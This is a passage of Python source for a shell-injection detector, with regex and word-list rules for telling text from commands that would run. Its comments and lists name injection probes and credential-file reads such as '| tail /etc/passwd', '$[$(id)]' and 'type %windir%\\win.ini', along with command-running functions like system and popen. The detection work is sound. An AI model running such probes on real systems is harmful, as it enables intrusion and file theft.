# no commands to a shell (no program is named `+x`); context lines keep their leading blank and stay as they are.
_DIFF_START: Final = re.compile(r"^\s*(?:diff (?:--git|-[a-z]+) \S+ \S+\r?\n|index: \S+\r?\n|--- \S[^\n]*\r?\n\+\+\+ \S)", re.I)
_DIFF_HUNK: Final = re.compile(r"^@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@", re.M)
_DIFF_LINE: Final = re.compile(r"^(?:diff (?:--git|-[a-z]+) \S+ \S+|index [0-9a-f]{4,40}\.\.[0-9a-f]{4,40}(?: \d{6})?|Index: \S+|"
                               r"={10,}|@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@.*|(?:new|deleted) file mode \d{6}|(?:old|new) mode \d{6}|"
                               r"similarity index \d+%|rename (?:from|to) \S.*|Binary files \S.* differ|\\ No newline at end of file|"
                               r"[+\-].*)\r?$")


def _unified_diff(value: str) -> str:
    if not _DIFF_HUNK.search(value):
        return value
    return "\n".join(_TABLE_MARK + ln if _DIFF_LINE.match(ln) else ln for ln in value.split("\n"))


# MediaWiki markup. A table runs from a `{|` line to a `|}` line: to a shell its first line is a syntax error (`{` then
# `|`), so nothing from it on runs; to a reader `|-` starts a row and `|`/`!` lines hold cells split by `||`/`!!`. Each
# cell becomes a line behind the neutral mark (a `;` or `$(` inside still counts), as for Markdown tables.
_WIKI_ROW_MARK: Final = re.compile(r"^[ \t]*(?:\{\||\|\}|\|-|\|\+|\||!)")
_WIKI_CELL_SEP: Final = re.compile(r"\|\||!!")
# Template parameters (`{{{image|}}}`) and the opening of a template or parser function (`{{Infobox`, `{{#if:`): to a
# shell `{{{image` and `{{sort` are words naming no program (`{` is a reserved word only standing alone), so each is set
# to a neutral word; a default with shell syntax in it (`$`, `;`, `&`, backticks, parentheses) is left as written.
_WIKI_PARAM: Final = re.compile(r"\{\{\{[\w \-]{1,40}(?:\|[^{}|\n$`;&()]{0,80})?\}\}\}")
_WIKI_CALL: Final = re.compile(r"\{\{(?=#?[a-z][\w \-]{0,40}(?:[|:}]|\n))", re.I)


def _wiki_tables(value: str) -> str:
    """Each `{|` … `|}` table (one pass over its lines) as a marked line per cell; an unclosed one stays as is."""
    lines = value.split("\n")
    out: list[str] = []
    start = -1
    for i, ln in enumerate(lines):
        head = ln.lstrip(" \t")
        if start < 0:
            if head.startswith("{|"):
                start = i
            else:
                out.append(ln)
        elif head.rstrip(" \t\r") == "|}":
            for row in lines[start:i + 1]:
                body = _WIKI_ROW_MARK.sub("", row, count=1)
                out += [_TABLE_MARK + c.strip() for c in _WIKI_CELL_SEP.split(body) if c.strip()]
            start = -1
    if start >= 0:
        out += lines[start:]
    return "\n".join(out)


def _wiki_markup(value: str) -> str:
    if "{|" in value and "|}" in value:
        value = _wiki_tables(value)
    if "{{" in value:
        value = _WIKI_PARAM.sub(_TABLE_MARK.strip(), value)
        value = _WIKI_CALL.sub(_TABLE_MARK.strip(), value)
    return value


# Programs, aliases and builtins a capitalised or upper-case word still runs: cmd.exe and PowerShell ignore case, and
# these have Windows builds on the PATH (POSIX names are case-sensitive: `File`, `RUN` name no program there).
_PS_ALIASES: Final = frozenset("""cat cd chdir clear cls copy cp del diff dir echo erase history kill ls man md mkdir mount move mv
popd ps pushd pwd rd ren rm rmdir sleep sort start tee type where write set select foreach group measure compare date time
exit shift path title color pause goto break rem prompt tar git make bash sh su curl ssh scp sftp python node""".split())
# A line (after the first) whose first word is upper case and names no known program (`RUN`, `FROM` of a Dockerfile in
# a post): the command fails, so neither it nor the `&&` chain joined to it on that line runs (both are set out of
# command position). `||`, `;`, `|`, `&` and substitutions after it still count.
_DEAD_CHAIN: Final = re.compile(r"(?<=\n)([ \t]*)([A-Z][A-Z0-9_]+)([ \t](?:\\\r?\n|[^\n]){0,2000})")
_CHAIN_END: Final = re.compile(r"\|\||;|(?<!&)&(?!&)|\||`|\$\(")


# A Dockerfile sent whole: comments and `ARG` lines, then `FROM image [AS name]` first. Its upper-case instructions are
# read by `docker build`, not by a shell (a case-insensitive one included), so `COPY`, `CMD`, `ENV`, `USER` fail like
# `RUN` does; what follows `;`, `|`, `||`, `&` or a substitution on their lines still counts.
_DOCKERFILE: Final = re.compile(r"^(?:[ \t]*(?:#[^\n]*|ARG[ \t][^\n]*)?\r?\n)*[ \t]*FROM[ \t]+(?:--platform=\S+[ \t]+)?\S+"
                                r"(?:[ \t]+AS[ \t]+[\w.\-]+)?[ \t]*\r?\n")
_DOCKER_INSTRUCTIONS: Final = frozenset("""FROM RUN CMD LABEL MAINTAINER EXPOSE ENV ADD COPY ENTRYPOINT VOLUME USER WORKDIR ARG
ONBUILD STOPSIGNAL HEALTHCHECK SHELL""".split())


def _kill_chain(m: re.Match, dockerfile: bool = False) -> str:
    head, rest = m.group(2), m.group(3)
    if not (dockerfile and head in _DOCKER_INSTRUCTIONS) and (
            _cmd_name(head.lower()) is not None or head.lower() in _PS_ALIASES):
        return m.group()  # `CMD`, `ENV`, `NC`: a program of that name may still run where case does not matter
    if m.string[max(0, m.start() - 256):m.start()].rstrip(" \t\r\n")[-1:] in ("\\", "|", "&"):
        return m.group()  # `x \` + newline, `true ||` + newline: the line continues a command that may succeed
    e = _CHAIN_END.search(rest)
    cut = e.start() if e else len(rest)
    return m.group(1) + _TABLE_MARK + head + rest[:cut].replace("&&", " \x00 ") + rest[cut:]


# A line (after the first) that begins with a capitalised English word that is also a POSIX tool (`  File "x.py", line
# 3` of a traceback): no program is named `File`; the word is set out of command position by a neutral mark.
_CAP_HEAD: Final = re.compile(r"(?<=\n)([ \t]*)([A-Z][a-z]{1,15})(?=[ \t\"'])")


# A stack frame on a line of its own (Node/V8 `    at f (/app/x.js:170:41)`, `at <anonymous>:1:1`, `at (index):45:1`,
# Java `\tat com.acme.A.run(A.java:42)`): it ends in a source location (a name, then `:line` or `:line:col`) and holds
# no separator or substitution. `at` is a program (at(1)), but it takes a time, never a location, so the word is set
# out of command position; the rest of the line is read as before (`at 10:30` and `at now + 1 minute` stay jobs).
_STACK_FRAME: Final = re.compile(r"^([ \t]*)(at)(?=[ \t]+[^\n;|&`$]*?(?:[^\s:;|&`$]*[a-z<>)/_.][^\s;|&`$]*:\d+(?::\d+)?\)?|"
                                 r"\((?:native|native method|unknown source)\))[ \t\r]*$)", re.M | re.I)
# The prefix PHP writes before each message in a log (`PHP Fatal error:  Uncaught Error: …`, `PHP Warning:  …`): a
# label, not the `php` program (POSIX names are case-sensitive, and the words after it are a message, not a script).
_PHP_LOG_HEAD: Final = re.compile(r"^([ \t]*)(PHP)(?=[ \t]+(?:Fatal error|Parse error|Warning|Notice|Deprecated|Strict Standards|"
                                  r"(?:Catchable|Recoverable) fatal error|Stack trace|Stack Trace):)", re.M)


def _mark_cap_head(m: re.Match) -> str:
    w = m.group(2).lower()
    if w in PROSE and w not in WIN and w not in _PS_ALIASES:
        return m.group(1) + _TABLE_MARK + m.group(2)
    return m.group()


# Query languages with pipes (KQL, Splunk SPL, LogQL, ES|QL): an operator only they have after a `|` makes the value a
# query, and then `| sort -count`, `| top 10 by n`, `| where x > 1` are its operators (harmless filters to a shell too).
_QUERY_OPS: Final = frozenset("""summarize project project-away project-keep project-rename project-reorder extend mv-expand
mv-apply make-series render take limit distinct order parse parse-where evaluate getschema serialize top-nested
top-hitters stats eventstats streamstats tstats timechart chart dedup rex spath fillnull filldown transaction lookup
inputlookup iplocation geostats rare bucket mvexpand makemv addtotals xyseries untable logfmt json line_format
label_format unwrap keep dissect grok enrich timeslice fields table""".split())
_QUERY_OP_AT: Final = re.compile(r"\|[ \t]*([a-z][a-z_\-]*)", re.I)
# Query operators that are also text filters reading standard input (none runs another program).
_QUERY_FILTERS: Final = frozenset({"sort", "head", "tail", "top", "join", "uniq", "where", "rename", "expand", "set", "let"})
_CLAUSE_WORDS: Final = {"=", "==", "!=", "like", "in", "is", "between", "and", "or", "not", "contains", "has", "startswith",
                        "endswith", "matches", "regex", "!contains", "in~", "=~"}
_NOT_QUERY_ARG: Final = re.compile(r"^(?:[/\\~.]|[a-z]:|-o|--output|--compress|--files0|\S*://|\d+\.\d+\.\d+)|[$`]")


def _query_pipeline(value: str) -> bool:
    return any(m.group(1).lower() in _QUERY_OPS for n, m in zip(range(64), _QUERY_OP_AT.finditer(value)))


def _query_clause(ws: list[tuple[str, str]], idx: int) -> bool:
    """The words after a query operator (`where ts > ago(1h)`, `sort -count`): no path, URL, address, variable or
    program among them (`| tail /etc/passwd`, `| sort -o /var/www/x` stay commands). `where` alone (cmd.exe's file
    finder) needs a comparison after it to read as a clause."""
    cmp_ = False
    for s2, w2 in ws[idx + 1: idx + 12]:
        if s2 and s2 not in ("<", "("):
            break
        cmp_ = cmp_ or s2 == "<" or w2 in _CLAUSE_WORDS or "=" in w2
        if _NOT_QUERY_ARG.search(w2) or (c := _cmd_name(w2.rstrip("("))) is not None and (
                c in STRONG and c not in PROSE or c in WIN_STRONG):
            return False
    return cmp_ if ws[idx][1] == "where" else True


# A spreadsheet formula (`=LET(net, B2-C2, …)`): the words inside its calls are arguments.
_FORMULA: Final = re.compile(r"^\s*=\s*[a-z_][\w.]*\(", re.I)
# A title naming a tool and its version before a colon, then a phrase: `PHP 8.2: "Creation of dynamic property is
# deprecated" in a Laravel model`, `Python 3.12: what's new in typing`.
_HEADING: Final = re.compile(r"^[ \t]*[a-z][\w+#.\-]{0,30}(?:[ \t]+v?\d{1,4}(?:\.\d{1,4}){0,3})?:[ \t]+(\S.*)$", re.I)
_DOTTED: Final = re.compile(r"(?<!\d)\d+\.\d+\.\d+")  # (a start inside a digit run finds nothing the run's first digit misses)


# A folder written with a Windows variable or a drive (`%ProgramFiles%\\Acme`, `C:\\Acme`), read as one word of a sentence.
_WIN_PATH_WORD: Final = re.compile(r"(?:%[a-z_]+%|\b[a-z]:)(?:\\[\w.\-]+)*\\?", re.I)


def _win_sentence(low: str) -> bool:
    """`Windows installer now installs to %ProgramFiles%\\Acme instead of C:\\Acme; existing installs are migrated.`:
    with its folders read as words the text is a sentence (six or more words, two function words, no pipe, `&`,
    redirection, substitution or option). A command after its `;` is still read by the chained-command rule."""
    rest = _WIN_PATH_WORD.sub(" folder ", low)
    if any(c in rest for c in "|&`$<>\n^") or "\\" in rest:
        return False
    heads = [c.split()[0] for c in rest.split(";") if c.split()]  # the words a shell would run: first, after `;`
    if any(_cmd_name(h.strip("\"'().,:!?")) is not None for h in heads):
        return False  # `type %windir%\\win.ini; the file is there`: a program first is a command line
    toks = [t for t in [w.rstrip(";") for w in rest.split()] if t]
    return len(toks) >= 6 and all(_SENTENCE_WORD.match(t) for t in toks) and \
        sum(t.strip("\"'().,:!?") in _FUNCTION_WORDS for t in toks) >= 2


def _heading(value: str) -> bool:
    m = _HEADING.match(value.strip())
    if m is None or "\n" in value.strip():
        return False
    toks = m.group(1).split()
    if len(toks) < 4 or not all(_SENTENCE_WORD.match(t) and not _DOTTED.search(t) for t in toks):
        return False
    if any((c := _cmd_name(t.strip("\"'().,:!?").lower())) is not None and (c in STRONG and c not in PROSE or
                                                                          c in WIN_STRONG) for t in toks):
        return False
    return sum(t.strip("\"'().,:!?").lower() in _FUNCTION_WORDS for t in toks) >= 2


# A directory named after a package in the places state lives (`/var/lib/mysql`, `/var/log/nginx`): no program sits
# directly there. (`/etc/…`, `/usr/…` and `/opt/…` paths keep the absolute-path rule: `/etc/passwd` after a split word.)
_PACKAGE_DIR: Final = re.compile(r"^/(?:var/(?:lib|log|cache|spool|run)|run|srv|home)/[a-z0-9][\w.@+\-]*/?$")
# A script's own arithmetic (`count=0 … $((count + 1))`): every name in it is assigned a number in the value; a probe
# (`$((7*7))`) computes on literals, and `$((a[$(id)]))` has syntax no sum has.
_ARITH: Final = re.compile(r"\$\(\((.{0,200}?)\)\)|\$\[([^\]]{0,200})\]")
_NUM_ASSIGN: Final = re.compile(r"(?:^|[\s;&|(])([a-z_]\w{0,30})=\d+\b")
_FOR_VAR: Final = re.compile(r"\bfor\s+([a-z_]\w{0,30})\s+in\s+[\d\s]+[;\n]")  # `for n in 1 2 3;`: a loop over numbers
_ARITH_BODY: Final = re.compile(r"[\w\s+\-*/%<>=!&|^?:,()]*")
_NAME: Final = re.compile(r"[a-z_]\w*")


# A JSONPath root with a filter, a quoted name or a wildcard (`$[?(@.seats >= 5)]`, `$['store']`, `$[*].id`): to bash
# `$[?(…)]` is an arithmetic syntax error; a probe computes (`$[7*7]`, `$[$(id)]` also substitutes).
_JSONPATH_ROOT: Final = re.compile(r"\$\[(?:\?\(|['\"]|\*\])")


def _script_arithmetic(low: str) -> bool:
    assigned = set(_NUM_ASSIGN.findall(low)) | set(_FOR_VAR.findall(low))
    found = False
    for m in _ARITH.finditer(low):
        body = m.group(1) if m.group(1) is not None else m.group(2)
        names = set(_NAME.findall(body))
        if not names or not _ARITH_BODY.fullmatch(body) or not names <= assigned:
            return False
        found = True
    return found


# Fenced and indented code blocks of a Markdown post: the sentence around inline spans is what lies outside them.
_CODE_BLOCK: Final = re.compile(r"^[ \t]*```[^\n]*\n.*?^[ \t]*```[^\n]*$|(?:^(?: {4}|\t)[^\n]*(?:\n|$))+", re.M | re.S)
_CONTRACTION: Final = re.compile(r"^[a-z]+['’][a-z]{1,3}$")  # `it's`, `don't`, `they're`: function words of a sentence


# `name(` right before a word: a call in code or a formula. To a POSIX shell `name(word` is a syntax error and nothing
# runs; reserved words (`if(id)`), programs and cmdlets (PowerShell runs `echo(whoami)`'s parenthesis), the languages'
# command-running functions (`system(whoami)`) and `@(`, `.(` keep the word in command position.
_CALL: Final = re.compile(r"^=?[a-z_][\w.]*\($")
_RESERVED: Final = {"if", "elif", "while", "until", "then", "do", "else", "time", "function", "select", "case", "for", "foreach",
                    "coproc", "exec", "eval"}
# Functions of the languages that run their argument as a command (`system(whoami)`, `os.popen(id)`, `execSync(ls)`).
_EXEC_CALLS: Final = {"system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "eval", "assert", "execute",
                      "spawn", "spawnsync", "execsync", "execfile", "execfilesync", "call", "check_call", "check_output", "run",
                      "getoutput", "getstatusoutput", "startfile", "open", "syscall", "invoke", "start", "create_function",
                      "capture2", "capture3", "popen2", "popen3", "spawnl", "spawnv", "execl", "execv", "execvp", "execlp",
                      "shell", "sh", "cmd", "command", "runtime", "process", "processbuilder", "expect", "invoke_shell"}


def _call_argument(prev: str) -> bool:
    if not _CALL.match(prev):
        return False
    name = prev[:-1].lstrip("=")
    last = name.rsplit(".", 1)[-1]
    if name in _RESERVED or _cmd_name(name) is not None or last in _RESERVED or last in _EXEC_CALLS:
        return False
    m = PS_CANDIDATE.match(name)
    return not (m and cmdlet_at(name, m))
